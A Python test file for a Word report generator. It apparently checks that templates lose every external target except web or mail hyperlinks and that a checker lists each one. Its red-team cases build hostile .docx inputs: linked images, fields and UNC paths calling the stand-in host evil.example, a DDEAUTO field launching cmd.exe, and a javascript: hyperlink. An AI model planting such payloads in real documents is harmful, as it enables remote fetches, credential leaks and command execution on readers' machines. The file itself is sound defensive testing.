"""Issue 10, kind 2: nothing from a template reaches outside the document.

Every external target but an ordinary web or mail hyperlink is removed from the report,
on both rendering paths alike, and ``template-check`` lists each one with its place.
The shared case ``rt-10-external-targets-survive`` and a red-team set of other members
of the kind (headers, settings, web settings, fields, VML, OLE links …).
Also the package checker :func:`assert_consistent`, used by ``test_reconcile.py``.
"""
from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from docx import Document
from lxml import etree

from reportgen.engine import Template
from reportgen.errors import WARNING, TemplateError
from reportgen.template_check import check_template

CASES = Path(__file__).parents[2] / "shared" / "cases"
RT10 = CASES / "rt-10-external-targets-survive"
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
R = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
NS = ('xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
      'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"')
WEB = re.compile(r"(https?://|mailto:)", re.I)
STORIES = ("document.main", "header", "footer", "footnotes", "endnotes")


def _png() -> bytes:
    """A valid 1×1 white PNG, for an image the template embeds."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff")) + chunk(b"IEND", b""))


PNG = _png()


# ---- building templates ---------------------------------------------------------------------


def rel(rid: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{RT}{kind}" Target="{target}"{mode}/>'


def rels(*items: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELS}">' \
           f'{"".join(items)}</Relationships>'.encode()


def package(body: str = "<w:p><w:r><w:t>正文</w:t></w:r></w:p>", *, relations: tuple = (), section: str = "", parts: dict | None = None,
            edits: dict | None = None) -> bytes:
    """A .docx (python-docx's default) with ``body`` (paragraphs as Word writes them) before
    its section properties, ``relations`` added to the body's, ``section`` at the start of
    the section properties, ``parts`` (entry → (content type or None, bytes)) added and
    ``edits`` (entry → function of its bytes) applied."""
    out = io.BytesIO()
    Document().save(out)
    parts, edits = dict(parts or {}), dict(edits or {})
    with zipfile.ZipFile(out) as src:
        entries = {i.filename: src.read(i.filename) for i in src.infolist()}
    doc = entries["word/document.xml"].decode()
    doc = doc.replace("<w:body>", "<w:body>" + body, 1)
    doc = re.sub(r"(<w:sectPr[^>]*>)(?=<w:pgSz)", lambda m: m.group(1) + section, doc, count=1)
    entries["word/document.xml"] = doc.encode()
    entries["word/_rels/document.xml.rels"] = entries["word/_rels/document.xml.rels"].replace(
        b"</Relationships>", "".join(relations).encode() + b"</Relationships>")
    types = entries["[Content_Types].xml"].decode()
    for name, (kind, data) in parts.items():
        entries[name] = data
        if kind:
            types = types.replace("</Types>", f'<Override PartName="/{name}" ContentType="{kind}"/></Types>')
    entries["[Content_Types].xml"] = types.encode()
    for name, edit in edits.items():
        entries[name] = edit(entries[name])
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as dst:
        for name, data in entries.items():
            dst.writestr(name, data)
    return result.getvalue()


def paragraph(inner: str) -> str:
    return f"<w:p>{inner}</w:p>"


def run(text: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>'


def field(instruction: str, result: str = "旧结果") -> str:
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            f'{run(result)}<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def linked_image(rid: str, embed: str = "") -> str:
    embedded = f' r:embed="{embed}"' if embed else ""
    return ('<w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="7" name="p"/>'
            f'<a:graphic {NS}><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
            '<pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr>'
            f'<pic:blipFill><a:blip{embedded} r:link="{rid}"/></pic:blipFill><pic:spPr/></pic:pic>'
            '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>')


# ---- rendering and checking the result -----------------------------------------------------


def render(data: bytes, context: dict | None = None) -> bytes:
    """The report of template ``data``, the same on both paths; checked for consistency."""
    context = {"year": 2023, **(context or {})}
    template = Template(data, name="t.docx")
    whole = template.whole_package.render_bytes(context)
    if template.parts_only is not None:
        assert template.parts_only.render_bytes(context) == whole
    assert template.render_bytes(context) == whole
    assert_consistent(whole)
    return whole


def _resolve(folder: str, target: str) -> str:
    if target.startswith("/"):
        return target.lstrip("/")
    steps = [s for s in folder.split("/") if s]
    for step in target.split("/"):
        if step == "..":
            steps.pop()
        elif step not in ("", "."):
            steps.append(step)
    return "/".join(steps)


def assert_consistent(data: bytes) -> None:
    """What Word needs of the elements reconciled: every relationship a part uses
    exists, every internal target and every content type is there, no external target
    but a web or mail hyperlink, unique bookmark and drawing ids, no template comment,
    no marker of reportgen's own."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        names = set(z.namelist())
        types = etree.fromstring(z.read("[Content_Types].xml"))
        defaults = {d.get("Extension").lower() for d in types.iter(f"{{{TYPES}}}Default")}
        overrides = {o.get("PartName").lstrip("/"): o.get("ContentType") for o in types.iter(f"{{{TYPES}}}Override")}
        assert set(overrides) <= names, "a content type names a missing part"
        for name in names - {"[Content_Types].xml"}:
            assert name in overrides or name.rpartition(".")[2].lower() in defaults, name
        ids_of = {}
        for name in (n for n in names if n.endswith(".rels")):
            folder, _, base = name.rpartition("_rels/")
            source = folder + base[:-5]
            ids_of[source] = set()
            for r in etree.fromstring(z.read(name)):
                ids_of[source].add(r.get("Id"))
                if (r.get("TargetMode") or "").lower() == "external":
                    assert r.get("Type") == RT + "hyperlink" and WEB.match(r.get("Target")), r.attrib
                else:
                    assert _resolve(folder.rstrip("/"), r.get("Target")) in names, r.attrib
        for name in names:
            body = z.read(name)
            assert b"urn:reportgen" not in body
            if not name.endswith(".xml"):
                continue
            root = etree.fromstring(body)
            for element in root.iter():
                for key, value in element.attrib.items():
                    if key.startswith(R) and key != R + "dummy":
                        assert value in ids_of.get(name, set()), (name, key, value)
            if any(s in overrides.get(name, "") for s in STORIES):
                assert not list(root.iter(W + "commentRangeStart", W + "commentReference"))
                starts = [(b.get(W + "id"), b.get(W + "name")) for b in root.iter(W + "bookmarkStart")]
                ends = [b.get(W + "id") for b in root.iter(W + "bookmarkEnd")]
                assert len({i for i, _ in starts}) == len({n for _, n in starts}) == len(starts), starts
                assert sorted(ends) == sorted(i for i, _ in starts), (starts, ends)
                drawings = [d.get("id") for d in root.iter(
                    "{http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing}docPr")]
                assert len(set(drawings)) == len(drawings)


def text_of(data: bytes, part: str = "word/document.xml") -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(t.text or "" for t in etree.fromstring(z.read(part)).iter(W + "t"))


def entry(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read(name)


def warnings(tmp_path: Path, data: bytes) -> list:
    path = tmp_path / "t.docx"
    path.write_bytes(data)
    return [p for p in check_template(path, "self-evaluation").problems if p.severity == WARNING]


# ---- the shared case ------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["linked-image", "attached-template", "includepicture", "subdocument",
                                  "unc-image"])
def test_the_shared_case_leaves_no_address_in_the_report_and_is_listed(name, tmp_path):
    data = (RT10 / f"{name}.docx").read_bytes()
    report = render(data, {"department": {"full_name": "某区商务局"}})
    with zipfile.ZipFile(io.BytesIO(report)) as z:
        assert not [n for n in z.namelist() if b"evil.example" in z.read(n)]
    assert "某区商务局2023年报告" in text_of(report)
    (found,) = warnings(tmp_path, data)
    assert "evil.example" in found.message and "打开报告时Word会访问该地址" in found.message
    assert found.where.label  # the paragraph, or 文档设置


def test_the_attached_template_is_dropped_from_the_settings(tmp_path):
    report = render((RT10 / "attached-template.docx").read_bytes(), {"department": {"full_name": "x"}})
    assert b"attachedTemplate" not in entry(report, "word/settings.xml")


# ---- the rest of the kind: a red-team set ---------------------------------------------------

# (id, template, what the report must still show or not show, what template-check names)
IMAGE = rel("rId91", "image", "http://evil.example/a.png")
LOCAL = '<Relationship Id="rId90" Type="' + RT + 'image" Target="media/image9.png"/>'
PNG_PART = {"word/media/image9.png": ("image/png", PNG)}


def _header(image_rel: str, body: str) -> dict:
    header = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
              '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
              'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
              'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
              f'{body}</w:hdr>').encode()
    return {"word/header9.xml": ("application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml",
                                 header),
            "word/_rels/header9.xml.rels": (None, rels(image_rel))}


def _settings(xml: str, relation: str, part: str = "settings") -> dict:
    def edit(data: bytes) -> bytes:
        return re.sub(rb"(<w:%s[^>]*>)" % (b"webSettings" if part == "webSettings" else b"settings"),
                      lambda m: m.group(1) + xml.encode(), data, count=1)
    return {"edits": {f"word/{part}.xml": edit},
            "parts": {f"word/_rels/{part}.xml.rels": (None, rels(relation))}}


ATTEMPTS = {
    "image-http": (dict(body=paragraph(linked_image("rId91")) + paragraph(run("正文{{ year }}")),
                        relations=(IMAGE,)), "正文2023", "a.png"),
    "image-unc": (dict(body=paragraph(linked_image("rId91")) + paragraph(run("正文")),
                       relations=(rel("rId91", "image", r"\\evil.example\share\a.png"),)), "正文", "share"),
    "image-insert-and-link": (dict(body=paragraph(linked_image("rId91", embed="rId90")),
                                   relations=(IMAGE, LOCAL), parts=PNG_PART), "", "a.png"),
    "image-vml": (dict(body=paragraph('<w:r><w:pict><v:shape style="width:1pt;height:1pt">'
                                      '<v:imagedata r:id="rId91" o:title=""/></v:shape></w:pict></w:r>' + run("文字")),
                       relations=(IMAGE,)), "文字", "a.png"),
    "image-in-header": (dict(body=paragraph(run("正文")), relations=(rel("rId80", "header", "header9.xml", False),),
                             section='<w:headerReference w:type="default" r:id="rId80"/>',
                             parts=_header(IMAGE, paragraph(linked_image("rId91")) + paragraph(run("页眉{{ year }}")))),
                        "正文", "a.png"),
    "subdocument-file": (dict(body=paragraph('<w:subDoc r:id="rId92"/>') + paragraph(run("正文")),
                              relations=(rel("rId92", "subDocument", "file:///C:/x/sub.docx"),)), "正文", "sub.docx"),
    "altchunk-http": (dict(body='<w:altChunk r:id="rId93"/>' + paragraph(run("正文")),
                           relations=(rel("rId93", "aFChunk", "http://evil.example/chunk.html"),)), "正文", "chunk"),
    "ole-link": (dict(body=paragraph('<w:r><w:object><v:shape id="_x1" style="width:1pt;height:1pt"/>'
                                     '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="_x1" r:id="rId94" '
                                     'UpdateMode="Always"><o:LinkType>Worksheet</o:LinkType></o:OLEObject>'
                                     '</w:object></w:r>' + run("表")),
                      relations=(rel("rId94", "oleObject", "file:///C:/data/x.xlsx"),)), "表", "x.xlsx"),
    "hyperlink-file": (dict(body=paragraph(f'<w:hyperlink r:id="rId95">{run("本机文件")}</w:hyperlink>'),
                            relations=(rel("rId95", "hyperlink", "file:///C:/secret.docx"),)), "本机文件", "secret"),
    "hyperlink-unc": (dict(body=paragraph(f'<w:hyperlink r:id="rId95">{run("共享")}</w:hyperlink>'),
                           relations=(rel("rId95", "hyperlink", r"\\evil.example\share"),)), "共享", "share"),
    "hyperlink-javascript": (dict(body=paragraph(f'<w:hyperlink r:id="rId95">{run("点我")}</w:hyperlink>'),
                                  relations=(rel("rId95", "hyperlink", "javascript:alert(1)"),)), "点我", "javascript"),
    "mail-merge-source": (_settings('<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/>'
                                    '<w:dataType w:val="native"/><w:query w:val="SELECT * FROM x"/>'
                                    '<w:dataSource r:id="rId1"/></w:mailMerge>',
                                    rel("rId1", "mailMergeSource", "http://evil.example/data.xlsx")),
                          "", "data.xlsx"),
    "attached-template-local": (_settings('<w:attachedTemplate r:id="rId1"/>',
                                          rel("rId1", "attachedTemplate", "file:///C:/Templates/x.dotm")),
                                "", "x.dotm"),
    "frame-web-settings": (_settings('<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>',
                                     rel("rId1", "frame", "http://evil.example/frame.html"), part="webSettings"),
                           "", "frame.html"),
    "package-level": ({"edits": {"_rels/.rels": lambda d: d.replace(
        b"</Relationships>", rel("rId99", "attachedTemplate", "http://evil.example/p.dotm").encode()
        + b"</Relationships>")}}, "", "p.dotm"),
    "field-includetext-simple": (dict(body=paragraph('<w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.example/t.docx&quot; ">'
                                                     + run("显示的内容") + "</w:fldSimple>")), "显示的内容", "t.docx"),
    "field-link": (dict(body=paragraph(field('LINK Excel.Sheet.12 "C:\\\\data\\\\x.xlsx" "Sheet1!R1C1" \\a \\t'))),
                   "旧结果", "x.xlsx"),
    "field-ddeauto": (dict(body=paragraph(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))),
                      "旧结果", "cmd.exe"),
    "field-lower-case": (dict(body=paragraph(field('includepicture "http://evil.example/l.png"'))), "旧结果", "l.png"),
    "field-nested-in-if": (dict(body=paragraph(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 = 1 "</w:instrText></w:r>'
        + field('INCLUDEPICTURE "http://evil.example/n.png"', "图") +
        '<w:r><w:instrText>" "" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + run("外层结果") + '<w:r><w:fldChar w:fldCharType="end"/></w:r>')), "外层结果", "n.png"),
    "field-no-result": (dict(body=paragraph('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
                                            ' INCLUDEPICTURE "http://evil.example/r.png" </w:instrText></w:r>'
                                            '<w:r><w:fldChar w:fldCharType="end"/></w:r>' + run("后文"))),
                        "后文", "r.png"),
    "field-hyperlink-file": (dict(body=paragraph(field('HYPERLINK "file://evil.example/share/x"', "链接文字"))),
                             "链接文字", "share"),
    "field-split-instruction": (dict(body=paragraph(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r>'
        '<w:r><w:instrText>PICTURE "http://evil.example/s.png" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + run("图") + '<w:r><w:fldChar w:fldCharType="end"/></w:r>')),
        "图", "s.png"),
    "orphan-relationship": (dict(relations=(rel("rId96", "image", "http://evil.example/o.png"),)), "正文", "o.png"),
    "drawing-hyperlink-file": (dict(body=paragraph(linked_image("rId90", embed="rId90").replace(
        ' r:link="rId90"', "").replace('<wp:docPr id="7" name="p"/>', '<wp:docPr id="7" name="p"><a:hlinkClick '
                                       f'{NS} r:id="rId97"/></wp:docPr>') + run("图注")),
        relations=(LOCAL, rel("rId97", "hyperlink", "file:///C:/secret.xlsx")), parts=PNG_PART), "图注", "secret"),
    "field-database": (dict(body=paragraph(field('DATABASE \\d "C:\\\\x.mdb" \\s "select * from t"'))),
                       "旧结果", "x.mdb"),
}


@pytest.mark.parametrize("name", sorted(ATTEMPTS))
def test_no_external_target_of_the_kind_reaches_the_report(name, tmp_path):
    built, shown, address = ATTEMPTS[name]
    data = package(**built)
    report = render(data)
    with zipfile.ZipFile(io.BytesIO(report)) as z:
        blob = b"".join(z.read(n) for n in z.namelist())
    assert address.encode() not in blob
    assert b"INCLUDE" not in blob.upper() or name.startswith("image")
    if shown:
        assert shown in text_of(report)
    found = warnings(tmp_path, data)
    assert len(found) == 1 and address in found[0].message, found


def test_a_field_instruction_a_tag_writes_is_caught_in_the_rendered_part():
    data = package(paragraph(field('{{ word }} "http://evil.example/j.png"', "图片")))
    report = render(data, {"word": "INCLUDEPICTURE"})
    assert b"evil.example" not in entry(report, "word/document.xml") and "图片" in text_of(report)


# Ordinary hyperlinks the template shows as text stay, and are not listed.
KEPT = {"https": "https://www.gov.cn/", "http-upper": "HTTP://WWW.GOV.CN/", "mailto": "mailto:czj@example.cn"}


@pytest.mark.parametrize("name", sorted(KEPT))
def test_an_ordinary_hyperlink_stays(name, tmp_path):
    data = package(paragraph(f'<w:hyperlink r:id="rId95">{run("财政局网站")}</w:hyperlink>'),
                   relations=(rel("rId95", "hyperlink", KEPT[name]),))
    report = render(data)
    assert KEPT[name].encode() in entry(report, "word/_rels/document.xml.rels")
    assert b'<w:hyperlink r:id="rId95">' in entry(report, "word/document.xml")
    assert warnings(tmp_path, data) == []


def test_a_hyperlink_field_to_the_web_stays():
    report = render(package(paragraph(field('HYPERLINK "https://www.gov.cn/"', "网站"))))
    assert b"HYPERLINK" in entry(report, "word/document.xml")


def test_an_embedded_copy_of_a_linked_image_stays():
    report = render(package(paragraph(linked_image("rId91", embed="rId90")), relations=(IMAGE, LOCAL),
                            parts=PNG_PART))
    assert b'r:embed="rId90"' in entry(report, "word/document.xml")
    assert b"r:link" not in entry(report, "word/document.xml")


def test_a_linked_image_in_a_footnote_goes_on_the_whole_package_path(tmp_path):
    notes = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             '<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
             'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
             'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
             f'<w:footnote w:id="1">{paragraph(linked_image("rId91") + run("注{{ year }}"))}</w:footnote>'
             '</w:footnotes>').encode()
    data = package(paragraph(run("正文") + '<w:r><w:footnoteReference w:id="1"/></w:r>'),
                   relations=(rel("rId70", "footnotes", "footnotes.xml", False),),
                   parts={"word/footnotes.xml": ("application/vnd.openxmlformats-officedocument."
                                                 "wordprocessingml.footnotes+xml", notes),
                          "word/_rels/footnotes.xml.rels": (None, rels(IMAGE))})
    assert Template(data, name="t.docx").parts_only is None
    report = render(data)
    assert "注2023" in text_of(report, "word/footnotes.xml")
    assert b"evil" not in entry(report, "word/_rels/footnotes.xml.rels")
    assert len(warnings(tmp_path, data)) == 1


def test_a_hyperlink_field_to_a_place_in_the_document_stays():
    report = render(package(paragraph(field('HYPERLINK \\l "_Toc1"', "目录项"))))
    assert b"HYPERLINK" in entry(report, "word/document.xml")


def test_an_external_target_written_without_its_mode_is_listed_and_never_rendered(tmp_path):
    # python-docx reads such a relationship as a missing part: the template is refused whole.
    for written in ('TargetMode="external"', ""):
        data = package(paragraph(linked_image("rId91")),
                       relations=(IMAGE.replace('TargetMode="External"', written),))
        with pytest.raises(TemplateError):
            Template(data, name="t.docx")
        (found,) = warnings(tmp_path, data)
        assert "a.png" in found.message


def test_template_check_reads_past_a_relationships_entry_that_is_no_xml(tmp_path):
    data = package(edits={}, parts={"word/_rels/broken.xml.rels": (None, b"\x89PNG not xml"),
                                    "word/media/_rels/x.png.rels": (None, rels(IMAGE)),
                                    "word/media/x.png": (None, PNG)})
    (found,) = warnings(tmp_path, data)
    assert "a.png" in found.message
